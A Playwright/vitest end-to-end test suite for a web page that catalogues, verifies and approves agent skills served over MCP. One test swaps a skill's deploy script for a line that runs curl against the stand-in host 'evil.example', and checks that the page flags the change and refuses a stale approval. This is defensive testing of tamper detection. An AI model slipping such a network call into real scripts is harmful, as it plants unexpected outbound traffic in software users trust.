/** The page as a person uses it, in a real browser, on the built command. */
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { createRuntime } from '../../src/runtime-client/index.node.ts';
import { skillText } from '../e2e/cli-process.ts';
import { eventually } from '../eventually.ts';
import { expectAccessible } from './accessible.ts';
import { closeBrowser, type ServedPage, serveBelow, servePageOf, type Visit, visit } from './served-page.ts';

const deploy = `---
name: deploy
description: Deploys the service. Use when asked to release.
allowed-tools: Bash(git:*) Read
---
# Deploy

Read [the steps](docs/steps.md#second) first. ![plan](plan.png) ![tracker](https://tracker.example/x.png)
`;

const files = {
  'skills/deploy/SKILL.md': deploy,
  'skills/deploy/docs/steps.md':
    '# Steps\n\n## First\n\nBuild.\n\n## Second\n\nShip. Back to [the skill](../SKILL.md).\n',
  'skills/deploy/scripts/run.sh': '#!/bin/sh\necho deployed\n',
  'skills/deploy/plan.png': 'not really a picture',
  'skills/team/notes/SKILL.md': skillText('notes', 'Notes of the team.\n'),
  'skills/other/notes/SKILL.md': skillText('notes', 'Other notes.\n'),
  'skills/broken/SKILL.md': '---\nname: Broken Skill\n---\nText.\n',
};

let served: ServedPage;
let seen: Visit;

beforeAll(async () => {
  served = await servePageOf(files, ['--mdp']);
}, 120_000);

afterAll(async () => {
  await served?.stop();
  await closeBrowser();
});

beforeEach(async () => {
  seen = await visit();
});

afterEach(async () => {
  await seen.keep();
  await seen.close();
});

/** Nothing was asked of anybody else, and nothing failed. */
function expectQuiet(url = served.url): void {
  expect(seen.requests.filter((request) => !request.startsWith(`${new URL(url).origin}/`))).toEqual([]);
  // The browser says itself that a picture could not be loaded.
  expect(seen.faults.filter((fault) => !fault.includes('status of 400'))).toEqual([]);
}

describe('the catalogue', () => {
  test('tells a newcomer what this is, what is served, what is not and why', async () => {
    const { page } = seen;
    await page.goto(`${served.url}/`);
    await page.locator('a.line').first().waitFor();
    expect(await page.locator('h1').textContent()).toBe('3 skills for your agents');
    expect(await page.locator('.hero .address code').textContent()).toBe(served.mcp);
    const broken = page.locator('.line.finding', { hasText: 'broken' });
    expect(await broken.textContent()).toMatch(/not served.*no description.*To do: add a line/);
    expect(await page.locator('a.line', { hasText: 'same name' }).count()).toBe(2);
    await seen.picture('catalogue');
    await expectAccessible(seen.page);
    expectQuiet();
  });

  test('shows versions of one skill as one line, and all of them on request', async () => {
    const text = (words: string): string =>
      `---\nname: changelog\ndescription: Writes the changelog of a release from commits and tags${words}.\n---\nText.\n`;
    const own = await servePageOf({
      'skills/a/changelog/SKILL.md': text(''),
      'skills/b/changelog/SKILL.md': text(' in English'),
      'skills/c/changelog/SKILL.md': text(' in German'),
      'skills/deploy/SKILL.md': deploy,
    });
    try {
      const { page } = seen;
      await page.goto(`${own.url}/`);
      await page.locator('a.line').nth(3).waitFor();
      await page.getByRole('searchbox').fill('changelog release');
      const alike = page.getByRole('button', { name: 'and 2 similar' });
      await alike.waitFor();
      expect(await page.locator('a.line').count()).toBe(1);
      expect(await page.locator('#found').textContent()).toContain('3 skills');
      await expectAccessible(page);
      await alike.click();
      await page.getByRole('button', { name: 'Hide 2 similar' }).waitFor();
      expect(await page.locator('a.line').count()).toBe(3);
      await page.getByRole('searchbox').fill('');
      await page.locator('a.line', { hasText: 'deploy' }).waitFor();
      expect(await page.locator('.line.alike').count()).toBe(0);
      expectQuiet(own.url);
    } finally {
      await own.stop();
    }
  });

  test('is searched from the keyboard alone', async () => {
    const { page } = seen;
    await page.goto(`${served.url}/`);
    await page.locator('a.line').first().waitFor();
    await page.keyboard.press('/');
    await page.keyboard.type('notes team');
    await page.locator('#found', { hasText: '1 skill of' }).waitFor();
    await seen.picture('search');
    expect(page.url()).toContain('q=notes+team');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await page.locator('h1', { hasText: 'notes' }).waitFor();
    expect(page.url()).toContain(encodeURIComponent('skill://team/notes/SKILL.md'));
  });

  test('is narrowed by facets, also to what is not served', async () => {
    const { page } = seen;
    await page.goto(`${served.url}/`);
    await page.getByRole('button', { name: 'Has scripts' }).click();
    await page.locator('#found', { hasText: '1 skill of' }).waitFor();
    expect(await page.locator('a.line strong').allTextContents()).toEqual(['deploy']);
    await page.getByRole('button', { name: 'Has scripts' }).click();
    await page.getByRole('button', { name: 'Not served' }).click();
    await eventually(async () => expect(await page.locator('.line').count()).toBe(1));
  });
});

describe('a skill', () => {
  const open = async (uri = 'skill://deploy/SKILL.md'): Promise<void> => {
    await seen.page.goto(`${served.url}/#/skill/${encodeURIComponent(uri)}`);
    await seen.page.locator('.markdown').waitFor();
  };

  test('is shown with its frontmatter, its files and what it asks for', async () => {
    const { page } = seen;
    await open();
    expect(await page.locator('.frontmatter tr').count()).toBe(3);
    expect(await page.locator('.tree a').allTextContents()).toEqual(['SKILL.md', 'plan.png', 'steps.md', 'run.sh']);
    expect(await page.locator('aside').textContent()).toMatch(/Asks for tools.*Bash\(git:\*\).*Scripts.*run\.sh/);
    expect(await page.locator('.no-image').textContent()).toContain('https://tracker.example/x.png');
    await page.getByRole('button', { name: 'Raw' }).click();
    expect(await page.locator('pre.source').textContent()).toBe(deploy);
    await seen.picture('skill');
    await expectAccessible(seen.page);
    expectQuiet();
  });

  test('has relative links that lead to its files, to places in them, and back', async () => {
    const { page } = seen;
    await open();
    await page.getByRole('link', { name: 'the steps' }).click();
    await page.locator('.file-bar strong', { hasText: 'steps.md' }).waitFor();
    await page.locator('#user-content-second').waitFor();
    await seen.picture('relative-link');
    await page.getByRole('link', { name: 'the skill', exact: true }).click();
    await page.locator('.file-bar strong', { hasText: 'SKILL.md' }).waitFor();
  });

  test('is verified in the browser, with and without the hash of the browser', async () => {
    const { page } = seen;
    await open();
    await page.getByRole('button', { name: 'Verify' }).click();
    await page.locator('.verdict .good', { hasText: '4 files verified' }).waitFor();
    expect(await page.locator('.tree .mark.good').count()).toBe(4);
    await seen.picture('verified');
    await page.addInitScript(() => Object.defineProperty(crypto, 'subtle', { value: undefined }));
    await page.reload();
    await page.getByRole('button', { name: 'Verify' }).click();
    await page.locator('.verdict .good', { hasText: '4 files verified' }).waitFor();
  });

  test('is found to be other than promised where a byte differs on the way', async () => {
    const { page } = seen;
    await page.route('**/api/bytes?*run.sh*', (route) => route.fulfill({ body: '#!/bin/sh\necho DEPLOYED\n' }));
    await open();
    await page.getByRole('button', { name: 'Verify' }).click();
    await page.locator('.verdict .bad', { hasText: 'scripts/run.sh' }).waitFor();
    await seen.picture('not-verified');
  });

  test('changes on the page when its file changes, without a reload', async () => {
    const { page } = seen;
    await open('skill://team/notes/SKILL.md');
    served.folder.write({ 'skills/team/notes/SKILL.md': skillText('notes', 'Now it says something else.\n') });
    await page.locator('.markdown', { hasText: 'Now it says something else.' }).waitFor();
    await seen.picture('edited');
    expectQuiet();
  });

  test('gives a working configuration for each agent', async () => {
    const { page } = seen;
    await page.goto(`${served.url}/#/connect`);
    await page.getByRole('button', { name: 'Codex' }).click();
    const text = (await page.locator('.paste pre').textContent()) ?? '';
    expect(text).toContain(`url = "${served.mcp}"`);
    expect(await page.locator('.paste figcaption').textContent()).toContain('.codex/config.toml');
    await page.getByRole('button', { name: 'Cursor' }).click();
    expect(JSON.parse((await page.locator('.paste pre').textContent()) ?? '')).toEqual({
      mcpServers: { skills: { url: served.mcp } },
    });
    await seen.picture('connect');
    await expectAccessible(seen.page);
  });
});

describe('decisions', () => {
  test('need the link, which works once', async () => {
    const { page } = seen;
    await page.goto(`${served.url}/#/review`);
    await page.locator('.notice', { hasText: 'open the sign-in link' }).waitFor();
    const link = served.link();
    await page.goto(link);
    await page.locator('footer', { hasText: 'this browser may approve' }).waitFor();
    await page.locator('.queue').first().waitFor();
    await page.reload();
    await page.locator('footer', { hasText: 'this browser may approve' }).waitFor();
    expect(page.url()).not.toContain('sign-in');
    await seen.picture('review');
    await expectAccessible(seen.page);
    await eventually(() => expect(served.link()).not.toBe(link));
    const other = await visit();
    try {
      await other.page.goto(link);
      await other.page.locator('h1', { hasText: 'Not signed in' }).waitFor();
      await other.picture('link-used-twice');
    } finally {
      await other.close();
    }
  });

  test('approve exactly what was shown, are in the log, and count for hosts with the same state', async () => {
    const { page } = seen;
    await page.goto(served.link());
    await page.locator('.queue a', { hasText: 'deploy' }).first().click();
    await page.getByLabel('Comment').fill('looked at it');
    await page.getByRole('button', { name: 'Approve', exact: true }).click();
    await page.locator('header .badge', { hasText: 'approved' }).waitFor();
    await seen.picture('approved');
    await expectAccessible(seen.page);
    await page.goto(`${served.url}/#/log`);
    await page.locator('tr', { hasText: 'looked at it' }).waitFor();
    await seen.picture('log');
    const listed = JSON.parse((await served.folder.run(['approvals', '--json'])).stdout);
    expect(listed.approvals).toMatchObject([{ uri: 'skill://deploy/SKILL.md', reason: 'looked at it' }]);
  });

  test('are refused where the skill changed meanwhile; the change is shown with scripts first', async () => {
    const { page } = seen;
    await page.goto(served.link());
    await page.locator('.queue a', { hasText: 'deploy' }).first().click();
    await page.getByRole('button', { name: 'Approve', exact: true }).waitFor();
    // The page is not told, as if the connection were lost for a moment.
    const stale = await page.evaluate(async () => {
      const { session } = await (await fetch('api')).json();
      return {
        csrf: session.csrf as string,
        detail: await (await fetch('api/skill?uri=skill://deploy/SKILL.md')).json(),
      };
    });
    served.folder.write({ 'skills/deploy/scripts/run.sh': '#!/bin/sh\ncurl https://evil.example\n' });
    await page.locator('.summary', { hasText: 'Changed script' }).waitFor();
    expect(await page.locator('.summary li').allTextContents()).toEqual([
      'Changed script: "scripts/run.sh".',
      'It now mentions network hosts: "evil.example".',
    ]);
    expect(await page.locator('.diff .minus').textContent()).toBe('echo deployed');
    expect(await page.locator('.diff .plus').textContent()).toBe('curl https://evil.example');
    await seen.picture('difference');
    await expectAccessible(seen.page);
    const refused = await page.evaluate(async ({ csrf, detail }) => {
      const answer = await fetch('api/approve', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-skillwire-csrf': csrf },
        body: JSON.stringify({ uri: detail.row.uri, setDigest: detail.setDigest }),
      });
      return { status: answer.status, body: await answer.json() };
    }, stale);
    expect(refused).toMatchObject({
      status: 403,
      body: { error: { message: expect.stringContaining('changed since') } },
    });
    expect(JSON.parse((await served.folder.run(['approvals', '--json'])).stdout).approvals).toHaveLength(1);
    await page.goto(`${served.url}/#/review`);
    await page.locator('.queue a', { hasText: 'deploy' }).locator('.badge', { hasText: 'changed' }).waitFor();
  });

  test('take a skill from agents and give it back', async () => {
    const { page } = seen;
    const client = new Client({ name: 'test', version: '1' });
    await client.connect(new StreamableHTTPClientTransport(new URL(served.mcp)));
    const uri = 'skill://other/notes/SKILL.md';
    try {
      await expect(client.readResource({ uri })).resolves.toBeDefined();
      await page.goto(served.link());
      await page.locator('.queue').first().waitFor();
      await page.goto(`${served.url}/#/skill/${encodeURIComponent(uri)}?tab=changes`);
      await page.getByRole('button', { name: 'Deny' }).click();
      await page.locator('header .badge', { hasText: 'denied' }).waitFor();
      await eventually(() => expect(client.readResource({ uri })).rejects.toThrow());
      await page.getByRole('button', { name: 'Approve', exact: true }).click();
      await page.locator('header .badge', { hasText: 'approved' }).waitFor();
      await eventually(() => expect(client.readResource({ uri })).resolves.toBeDefined());
      await page.getByRole('button', { name: 'Disable' }).click();
      await page.locator('header .badge', { hasText: 'disabled' }).waitFor();
      await seen.picture('switched-off');
      await eventually(() => expect(client.readResource({ uri })).rejects.toThrow());
      await page.getByRole('button', { name: 'Enable' }).click();
      await eventually(() => expect(client.readResource({ uri })).resolves.toBeDefined());
    } finally {
      await client.close();
    }
  });
});

describe('origins, programs and trying', () => {
  test('a program appears, is read, and leaves', async () => {
    const { page } = seen;
    await page.goto(`${served.url}/#/origins`);
    await page.locator('.origin').first().waitFor();
    await page.locator('.empty', { hasText: 'No program is connected' }).waitFor();
    const runtime = createRuntime({ url: served.mdp ?? '', id: 'shop', name: 'A shop' });
    runtime.expose('/cart/skill.md', { description: 'What is in the cart.' }, () => '# Cart\n\nTwo apples.');
    await runtime.connect();
    await page.locator('.runtime', { hasText: 'A shop' }).waitFor();
    await page.getByRole('button', { name: 'Read now' }).first().click();
    await page.locator('.runtime pre', { hasText: 'Two apples.' }).waitFor();
    await seen.picture('runtime');
    await expectAccessible(seen.page);
    await runtime.close();
    await page.locator('.empty', { hasText: 'No program is connected' }).waitFor();
  });

  test('what a model sees is shown within a budget', async () => {
    const { page } = seen;
    await page.goto(`${served.url}/#/try`);
    await page.locator('pre.source', { hasText: '<available_skills>' }).waitFor();
    await page.locator('section[aria-labelledby=try-load] select').selectOption('skill://deploy/SKILL.md');
    await page.locator('pre.source', { hasText: '# Deploy' }).waitFor();
    await page.getByLabel('Search query').fill('release');
    await page.locator('ol a', { hasText: 'deploy' }).waitFor();
    await seen.picture('try-it');
    await expectAccessible(seen.page);
    expectQuiet();
  });
});

describe('everywhere', () => {
  test('the page works below a prefix, with everything that it loads', async () => {
    const proxy = await serveBelow('/tools/skills/', served.url);
    try {
      const { page } = seen;
      await page.goto(proxy.url);
      await page.locator('a.line', { hasText: 'deploy' }).first().click();
      await page.locator('.markdown').waitFor();
      await page.goto(`${proxy.url}#/connect`);
      await page.locator('.paste pre').first().waitFor();
      expect(await page.locator('.paste pre').first().textContent()).toContain(`${proxy.url}mcp`);
      await seen.picture('prefix');
      expect(seen.requests.filter((request) => !request.startsWith(proxy.url))).toEqual([]);
    } finally {
      await proxy.close();
    }
  });

  test.each([
    ['light', 1280],
    ['dark', 1280],
    ['light', 360],
    ['dark', 360],
  ] as const)('the page is readable in %s at %i pixels', async (colorScheme, width) => {
    await seen.close();
    seen = await visit({ colorScheme, viewport: { width, height: 740 } });
    const { page } = seen;
    for (const [view, ready] of [
      ['', 'a.line'],
      [`skill/${encodeURIComponent('skill://deploy/SKILL.md')}`, '.markdown'],
      [`skill/${encodeURIComponent('skill://deploy/SKILL.md')}?tab=changes`, '.decision'],
      ['connect', '.paste'],
      ['review', '.queue'],
      ['origins', '.origin'],
      ['try', '.source'],
      ['log', 'h1'],
    ] as const) {
      await page.goto(`${served.url}/#/${view}`);
      await page.locator(ready).first().waitFor();
      await seen.picture(`${colorScheme}-${width}-${view.split('/')[0]}${view.includes('tab') ? '-changes' : ''}`);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
      await expectAccessible(seen.page);
    }
  });
});
